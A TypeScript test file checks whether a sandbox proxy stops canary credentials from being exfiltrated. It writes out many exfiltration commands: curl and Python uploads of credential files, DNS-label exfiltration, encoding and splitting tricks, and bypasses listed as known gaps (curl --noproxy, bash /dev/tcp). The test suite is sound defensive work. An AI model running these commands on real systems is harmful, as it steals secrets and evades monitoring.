// Exfiltration over the network through a real `grith shell --mount` session (exec guard + proxy + mount together):
// the token comes from a decoy file in the mounted workspace or from a canary variable, never from argv, so the proxy
// is the guard that must stop it. Every route: refused (403 or reset), a canary.fired event from the proxy, and the
// attacker's servers received nothing that contains any form of any canary.
import { mkdir, readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Canary } from '../../src/core/canary.js';
import { leaks, startAttacker, type Attacker } from '../support/scenarios/attacker.js';
import { describeEvents, verdict } from '../support/scenarios/checks.js';
import { startDevServer, type DevServer } from '../support/scenarios/dev-server.js';
import {
  addCanaries,
  CLIENT,
  hostSh,
  lastSeq,
  readEvents,
  removeBase,
  scenarioBase,
  seedBareRepo,
  sessionEnv,
  startSession,
  type RunResult,
  type Session,
} from '../support/scenarios/session.js';

const T = 120_000;

// Where each canary hides in the workspace, and how a script finds it there.
const SRC = {
  gh: { file: '.git-credentials', re: 'ghp_[0-9A-Za-z]{36}' },
  aws: { file: '.aws/credentials', re: '(?<=aws_secret_access_key = )[A-Za-z0-9/+]{40}' },
  oai: { file: '.env', re: 'sk-proj-[A-Za-z0-9_-]+' },
  /** Not a canary: the control rows send it and it must arrive. */
  fake: { file: 'notes/token.txt', re: 'ghp_[0-9A-Za-z]{36}' },
} as const;
type Key = keyof typeof SRC;

let dirs: Awaited<ReturnType<typeof scenarioBase>>;
let attacker: Attacker;
/** The attacker's git forge (git http-backend over HTTPS) for the push route. */
let forge: DevServer;
let bare: string;
let session: Session;
let canaries: Record<'gh' | 'aws' | 'oai', Canary>;
let all: Canary[];
const FAKE = 'ghp_' + 'Zq8vN2xR7kLmP4tW9yB3cD6fG1hJ5sA0eU2i'.slice(0, 36);

beforeAll(async () => {
  dirs = await scenarioBase('net');
  attacker = await startAttacker();
  const [gh, aws, oai, ...rest] = await addCanaries(dirs.home, [
    { format: 'github-pat', label: 'gh-pat', decoy: [SRC.gh.file], env: ['GITHUB_TOKEN'] },
    { format: 'aws', label: 'aws-deploy', decoy: [SRC.aws.file], env: ['AWS_SECRET_ACCESS_KEY'] },
    { format: 'openai-project', label: 'openai', decoy: [SRC.oai.file] },
    { format: 'slack-bot', label: 'slack', env: ['SLACK_BOT_TOKEN'] },
    { format: 'stripe-live', label: 'stripe', decoy: ['config/stripe.env'] },
    { format: 'npm', label: 'npm', decoy: ['.npmrc'] },
  ]);
  canaries = { gh: gh!, aws: aws!, oai: oai! };
  all = [gh!, aws!, oai!, ...rest];
  await writeFile(join(dirs.src, 'README.md'), '# service\n');
  await writeFile(join(dirs.src, 'notes.md'), 'todo\n');
  await mkdir(join(dirs.src, 'notes'));
  await writeFile(join(dirs.src, SRC.fake.file), `old token (revoked): ${FAKE}\n`);
  const gitRoot = join(dirs.base, 'forge');
  await mkdir(gitRoot);
  forge = await startDevServer({ gitRoot, filesRoot: gitRoot });
  bare = await seedBareRepo(gitRoot, 'drop.git', { 'README.md': '# drop\n', 'data/numbers.txt': Array.from({ length: 500 }, (_, i) => i).join('\n') }, join(dirs.base, 'seed'));
  // The session proxy is told to trust both throw-away CAs (GRITH_UPSTREAM_CA: one PEM file).
  const upstreamCa = join(dirs.base, 'upstream-ca.pem');
  await writeFile(upstreamCa, (await readFile(attacker.caFile, 'utf8')) + (await readFile(forge.caFile, 'utf8')));
  const dst = join(dirs.base, 'ws');
  session = await startSession({
    home: dirs.home,
    ctl: dirs.ctl,
    args: ['--mount', `${dirs.src}:${dst}`],
    cwd: dirs.base,
    env: sessionEnv(dirs.home, dirs.user, { GRITH_UPSTREAM_CA: upstreamCa }),
    mountpoints: [dst],
  });
}, T);

afterAll(async () => {
  await session?.stop();
  await attacker?.close();
  await forge?.close();
  if (dirs) await removeBase(dirs.base);
}, T);

const q = (s: string): string => `'${s.replace(/'/g, `'\\''`)}'`;

/** The in-session client reading `key`'s token from its workspace file. */
function client(key: Key, enc: string, via: string, url: string, extra = ''): string {
  return `node ${CLIENT} --file ${SRC[key].file} --re ${q(SRC[key].re)} --enc ${enc} --via ${via} --url ${url} ${extra}`;
}
const grepTok = (key: Key): string => `grep -oP ${q(SRC[key].re)} ${SRC[key].file}`;

type Outcome = 'client' | 'curl' | 'python';
interface Route {
  name: string;
  canary: 'gh' | 'aws' | 'oai';
  cmd: () => string;
  outcome: Outcome;
  /** The encoded form the proxy must name in the event (plain tokens may be reported as their core). */
  variant?: RegExp;
}

/** Refused: the client saw 403 or a reset; curl printed 403 or 000; Python got 403 or a broken connection. */
function denied(outcome: Outcome, r: RunResult): boolean {
  if (outcome === 'client') return r.code === 10 || r.code === 11;
  if (outcome === 'curl') return /^(403|000)$/m.test(r.stdout.trim());
  return /^(403|ERR .*(403|reset|closed|EOF|Remote end|aborted))/m.test(r.stdout.trim());
}

const PY_POST = (src: string, url: string, how: 'body' | 'cookie'): string =>
  `python3 -c ${q(`import os, re, sys, urllib.request, urllib.error
${src}
req = urllib.request.Request(${JSON.stringify(url)}, data=${how === 'body' ? 'tok.encode()' : 'None'}, headers=${how === 'cookie' ? "{'Cookie': 'theme=dark; session=' + tok}" : '{}'})
try:
    print(urllib.request.urlopen(req, timeout=30).status)
except urllib.error.HTTPError as e:
    print(e.code)
except Exception as e:
    print('ERR', repr(e))
`)}`;
const pyFromFile = (key: Key): string => `tok = re.search(r'${SRC[key].re}', open('${SRC[key].file}').read()).group(0)`;

function routes(): Route[] {
  // Resolved when a row runs (the attacker starts in beforeAll, after the rows are declared).
  const at = {
    get H() {
      return attacker.https;
    },
    get P() {
      return attacker.http;
    },
  };
  const rows: Route[] = [
    // Plain token, each place a request can carry it.
    { name: 'plain in the URL query (curl -G --data-urlencode q@<(grep …))', canary: 'gh', outcome: 'curl', cmd: () => `curl -sS -o /dev/null -w '%{http_code}\\n' -G --data-urlencode q@<(${grepTok('gh')}) ${at.H}/search` },
    { name: 'plain in the URL path (plain HTTP)', canary: 'gh', outcome: 'client', cmd: () => client('gh', 'plain', 'path', at.P) },
    { name: 'plain in a header (curl -H @<(printf …))', canary: 'gh', outcome: 'curl', cmd: () => `curl -sS -o /dev/null -w '%{http_code}\\n' -H @<(printf 'Authorization: Bearer %s\\n' "$(${grepTok('gh')})") ${at.H}/api` },
    { name: 'Basic auth header (base64 of user:token)', canary: 'gh', outcome: 'client', variant: /^base64$/, cmd: () => client('gh', 'plain', 'auth', at.H) },
    { name: 'plain in a cookie (Python urllib)', canary: 'aws', outcome: 'python', cmd: () => PY_POST(pyFromFile('aws'), `${at.H}/c`, 'cookie') },
    { name: 'plain in a body (curl --data-binary @decoy)', canary: 'gh', outcome: 'curl', cmd: () => `curl -sS -o /dev/null -w '%{http_code}\\n' --data-binary @${SRC.gh.file} ${at.H}/upload` },
    { name: 'canary variable in a body (Python urllib, plain HTTP)', canary: 'aws', outcome: 'python', cmd: () => PY_POST("tok = os.environ['AWS_SECRET_ACCESS_KEY']", `${at.P}/env`, 'body') },
    { name: 'DNS name: the core as a host label (Python urllib, HTTPS)', canary: 'gh', outcome: 'python', cmd: () => `python3 -c ${q(`import re, urllib.request
tok = re.search(r'${SRC.gh.re}', open('${SRC.gh.file}').read()).group(0)
try:
    print(urllib.request.urlopen('https://' + tok[4:] + '.exfil.example/', timeout=30).status)
except Exception as e:
    print('ERR', repr(e))
`)}` },
    { name: 'DNS name: the token hex-encoded, cut into labels', canary: 'oai', outcome: 'client', variant: /^hex$/, cmd: () => client('oai', 'hex', 'host', at.H) },
    // Encodings in a body over HTTPS.
    ...(['b64-0', 'b64-1', 'b64-2', 'b64-pad', 'b64-nopad', 'b64url-0', 'b64url-1', 'b64url-2'] as const).map(
      (enc, i): Route => ({
        name: `${enc.replace('-', ' ').replace(/ (\d)$/, ' at offset $1 inside text')} in a body`,
        canary: i % 2 ? 'aws' : 'gh',
        outcome: 'client',
        variant: /^base64(url)?$/,
        cmd: () => client(i % 2 ? 'aws' : 'gh', enc, 'body', at.H),
      }),
    ),
    ...(
      [
        ['hex', 'hex'],
        ['HEX', 'hex-upper'],
        ['pct', 'percent'],
        ['pct-lower', 'percent-lower'],
        ['json', 'json-unicode'],
        ['utf16le', 'utf16le'],
        ['rev', 'reversed'],
        ['b64b64', 'base64-base64'],
      ] as const
    ).map(
      ([enc, variant], i): Route => ({
        name: `${enc} in a body`,
        canary: (['gh', 'aws', 'oai'] as const)[i % 3]!,
        outcome: 'client',
        variant: new RegExp(`^${variant}$`),
        cmd: () => client((['gh', 'aws', 'oai'] as const)[i % 3]!, enc, 'body', at.H),
      }),
    ),
    { name: 'percent-encoded in the URL query', canary: 'aws', outcome: 'client', variant: /^percent$/, cmd: () => client('aws', 'pct', 'url', at.H) },
    { name: 'base64url in the URL query', canary: 'oai', outcome: 'client', variant: /^base64(url)?$/, cmd: () => client('oai', 'b64url-1', 'url', at.H) },
    { name: 'hex in a header', canary: 'gh', outcome: 'client', variant: /^hex-upper$/, cmd: () => client('gh', 'HEX', 'header', at.H) },
    // The random core alone.
    { name: 'prefix stripped (core + checksum) in a body', canary: 'gh', outcome: 'client', variant: /^core$/, cmd: () => client('gh', 'strip', 'body', at.H) },
    { name: 'truncated (prefix + first 20 of the core) in a body', canary: 'gh', outcome: 'client', variant: /^core$/, cmd: () => client('gh', 'trunc', 'body', at.H) },
    { name: 'front torn off (last 17 of the core + checksum) in a body', canary: 'gh', outcome: 'client', variant: /^core$/, cmd: () => client('gh', 'tail', 'body', at.H) },
    // Split so that neither part alone holds 16 characters of the core (GitHub PAT: cut after ghp_ + 15).
    { name: 'split across two TCP segments (plain HTTP)', canary: 'gh', outcome: 'client', cmd: () => client('gh', 'plain', 'tcp2', at.P, '--split 19') },
    { name: 'split across two TLS writes (HTTPS)', canary: 'gh', outcome: 'client', cmd: () => client('gh', 'plain', 'tcp2', at.H, '--split 19') },
    { name: 'split across two HTTP chunks', canary: 'gh', outcome: 'client', cmd: () => client('gh', 'plain', 'chunks2', at.H, '--split 19') },
    { name: 'one byte per write (HTTPS)', canary: 'gh', outcome: 'client', cmd: () => client('gh', 'plain', 'bytes', at.H) },
    { name: 'one byte per write (plain HTTP)', canary: 'aws', outcome: 'client', cmd: () => client('aws', 'plain', 'bytes', at.P) },
    { name: 'split across two writes in a raw CONNECT tunnel (not HTTP)', canary: 'gh', outcome: 'client', cmd: () => client('gh', 'plain', 'tunnel', `tcp://${attacker.tcpAuthority}`, '--split 19') },
    // Transport encodings.
    { name: 'Content-Encoding: gzip body', canary: 'oai', outcome: 'client', cmd: () => client('oai', 'plain', 'gzip', at.H) },
    { name: 'Content-Encoding: deflate body', canary: 'aws', outcome: 'client', cmd: () => client('aws', 'plain', 'deflate', at.H) },
    { name: 'Content-Encoding: br body', canary: 'gh', outcome: 'client', cmd: () => client('gh', 'plain', 'br', at.H) },
    { name: 'chunked transfer', canary: 'oai', outcome: 'client', cmd: () => client('oai', 'plain', 'chunked', at.H) },
    { name: 'multipart form upload of the decoy (curl -F file=@…)', canary: 'aws', outcome: 'curl', cmd: () => `curl -sS -o /dev/null -w '%{http_code}\\n' -F note=hello -F file=@${SRC.aws.file} ${at.H}/upload` },
    { name: 'multipart part in base64 wrapped at 76 columns', canary: 'gh', outcome: 'client', variant: /^(plain|core|base64)$/, cmd: () => client('gh', 'plain', 'multipart-b64', at.H) },
    { name: 'HTTPS POST of the decoy (Python urllib, TLS intercepted)', canary: 'oai', outcome: 'python', cmd: () => PY_POST(pyFromFile('oai'), `${at.H}/py`, 'body') },
    { name: 'WebSocket frames, token split across a fragmented message', canary: 'gh', outcome: 'client', cmd: () => client('gh', 'plain', 'ws', at.H, '--split 19') },
  ];
  return rows;
}

const ROWS = routes();

describe('network exfiltration through grith shell --mount (proxy)', () => {
  describe('controls: the same transports deliver an unregistered token (the harness can fail)', () => {
    const controls: [string, string][] = [
      ['HTTPS body', 'body'],
      ['plain HTTP, two TCP segments', 'tcp2'],
      ['HTTPS, two HTTP chunks', 'chunks2'],
      ['HTTPS gzip body', 'gzip'],
      ['HTTPS, one byte per write', 'bytes'],
      ['WebSocket', 'ws'],
      ['raw CONNECT tunnel', 'tunnel'],
    ];
    for (const [name, via] of controls) {
      it(
        name,
        async () => {
          const m = attacker.mark();
          const url = via === 'tcp2' ? attacker.http : via === 'tunnel' ? `tcp://${attacker.tcpAuthority}` : attacker.https;
          const r = await session.run(client('fake', 'plain', via, url));
          expect(r.code, r.stdout + r.stderr).toBe(0);
          const got = attacker.since(m).map((i) => i.bytes.toString('latin1'));
          expect(got.some((g) => g.includes(FAKE) || g.includes(FAKE.slice(0, 19)))).toBe(true);
        },
        T,
      );
    }
    it(
      'curl and Python reach the attacker over HTTPS through the proxy',
      async () => {
        const c = await session.run(`curl -sS -o /dev/null -w '%{http_code}\\n' --data-binary @${SRC.fake.file} ${attacker.https}/ok`);
        expect(c.stdout.trim(), c.stderr).toBe('200');
        const p = await session.run(PY_POST(pyFromFile('fake'), `${attacker.https}/ok`, 'body'));
        expect(p.stdout.trim(), p.stderr).toBe('200');
        const d = await session.run(`curl -sS -o /dev/null -w '%{http_code}\\n' --data-binary @${SRC.fake.file} ${attacker.http}/ok`);
        expect(d.stdout.trim(), d.stderr).toBe('200');
      },
      T,
    );
  });

  for (const [i, row] of ROWS.entries()) {
    it(
      `${String(i + 1).padStart(2, '0')} ${row.name}`,
      async () => {
        const mark = attacker.mark();
        const seq = await lastSeq(dirs.home);
        const r = await session.run(row.cmd());
        const v = await verdict({ home: dirs.home, afterSeq: seq, canary: canaries[row.canary], guard: 'proxy', received: () => attacker.since(mark), all });
        const diag = `exit ${r.code}\nstdout: ${r.stdout}\nstderr: ${r.stderr}\nevents:\n${describeEvents(v.fired)}`;
        expect(denied(row.outcome, r), diag).toBe(true);
        expect(v.denials.length, diag).toBeGreaterThan(0);
        expect(v.denials[0]!.variant, diag).toMatch(row.variant ?? /^(plain|core)$/);
        expect(v.leaked, diag).toEqual([]);
      },
      T,
    );
  }

  it(
    'git push over HTTPS of a commit holding a decoy (pack data, zlib-compressed objects)',
    async () => {
      const seq = await lastSeq(dirs.home);
      const r = await session.run(
        [
          `git clone -q ${forge.base}/git/drop.git drop`,
          'cd drop',
          `cp ../${SRC.gh.file} creds.txt`,
          'git add creds.txt',
          'git commit -qm "backup"',
          'git push -q origin main; echo "push=$?"',
        ].join(' && '),
      );
      const v = await verdict({ home: dirs.home, afterSeq: seq, canary: canaries.gh, guard: 'proxy', received: () => [], all });
      const diag = `exit ${r.code}\nstdout: ${r.stdout}\nstderr: ${r.stderr}\nevents:\n${describeEvents(v.fired)}`;
      expect(r.stdout, diag).toMatch(/push=[1-9]/);
      expect(v.denials.length, diag).toBeGreaterThan(0);
      // What the forge holds, decompressed by git itself: no commit "backup", no object carrying the token.
      expect(await hostSh('git log --oneline main', bare)).not.toContain('backup');
      const objects = await hostSh('git cat-file --batch-all-objects --batch', bare);
      expect(leaks([{ seq: 0, kind: 'raw', conn: 0, bytes: Buffer.from(objects, 'latin1') }], all)).toEqual([]);
    },
    T,
  );

  describe('known gaps: routes no guard stops today (it.fails; reported to the lead)', () => {
    const gaps: { name: string; cmd: () => string; why: string }[] = [
      {
        name: "curl --noproxy '*' --data-binary @decoy straight to the attacker",
        cmd: () => `curl -sS -o /dev/null -w '%{http_code}\\n' --noproxy '*' --data-binary @${SRC.gh.file} ${attacker.http}/direct`,
        why: 'the proxy is opt-in through variables; a program that ignores them connects directly (no network-level enforcement)',
      },
      {
        name: 'bash /dev/tcp builtin: T=$(cat decoy); printf "$T" > /dev/tcp/127.0.0.1/PORT',
        cmd: () => `T=$(cat ${SRC.gh.file}); printf '%s' "$T" > /dev/tcp/${attacker.tcpAuthority.replace(':', '/')}`,
        why: 'no exec (builtin redirection) and no proxy: nothing sees the bytes',
      },
    ];
    for (const g of gaps) {
      const body = async (): Promise<void> => {
        const mark = attacker.mark();
        const seq = await lastSeq(dirs.home);
        const r = await session.run(g.cmd());
        // A known gap records nothing: a short wait (the leak check decides, and it does not depend on timing).
        const v = await verdict({ home: dirs.home, afterSeq: seq, canary: canaries.gh, guard: 'proxy', received: () => attacker.since(mark), all, waitMs: 3000 });
        const diag = `exit ${r.code}\nstdout: ${r.stdout}\nstderr: ${r.stderr}\nevents:\n${describeEvents(v.fired)}\nleaked: ${v.leaked.join('; ')}`;
        expect(v.leaked, diag).toEqual([]);
        expect(v.fired.length, diag).toBeGreaterThan(0);
      };
      if (process.env.GRITH_SCENARIO_GAPS) it(`${g.name} — ${g.why}`, body, T);
      else it.fails(`${g.name} — KNOWN GAP: ${g.why}`, body, T);
    }
    it.skip("a program's own DNS lookup of <core>.exfil.example (getaddrinfo) — KNOWN GAP, not run: no guard sees DNS queries, and running it would send the name to this machine's resolver", () => undefined);
  });

  it('events and the session output never carry a token', async () => {
    const raw = await readFile(join(dirs.home, 'events.jsonl'));
    const out = Buffer.from(session.output());
    const items = [
      { seq: 0, kind: 'raw' as const, conn: 0, bytes: raw },
      { seq: 0, kind: 'raw' as const, conn: 1, bytes: out },
    ];
    expect(leaks(items, all)).toEqual([]);
    expect((await readEvents(dirs.home)).filter((e) => e.kind === 'canary.fired').length).toBeGreaterThanOrEqual(ROWS.length);
  });
});
